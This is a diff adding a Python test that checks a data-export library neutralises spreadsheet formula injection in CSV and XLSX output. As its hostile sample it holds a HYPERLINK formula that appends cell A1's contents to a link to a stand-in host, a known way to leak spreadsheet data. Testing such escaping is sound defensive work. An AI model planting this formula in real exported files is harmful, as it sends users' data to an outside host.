@@ -120,3 +120,26 @@ def test_the_demo_writes_every_clients_reports(demo_ws: Path) -> None:
     )
     assert (folder / "northbank.pdf").read_bytes().startswith(b"%PDF")
     assert folder.stat().st_mode & 0o777 == 0o700
+
+
+def test_no_imported_text_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from dataward.output import Format, inert, render, write_xlsx
+
+    hostile = '=HYPERLINK("http://x.invalid/"&A1,"open")'
+    assert inert(hostile) == "'" + hostile
+    assert (inert("-"), inert("-12.5"), inert("-1+2"), inert("@SUM(A1)")) == (
+        "-",
+        "-12.5",
+        "'-1+2",
+        "'@SUM(A1)",
+    )
+    assert (
+        render([{"a": hostile}], ["a"], Format.CSV, "t").splitlines()[1].startswith("\"'=HYPERLINK")
+    )
+    book = tmp_path / "x.xlsx"
+    write_xlsx([{"a": hostile}], ["a"], book)
+    cell = load_workbook(book).active.cell(2, 1)  # type: ignore[union-attr]
+    assert cell.data_type == "s"
+    assert cell.value == "'" + hostile
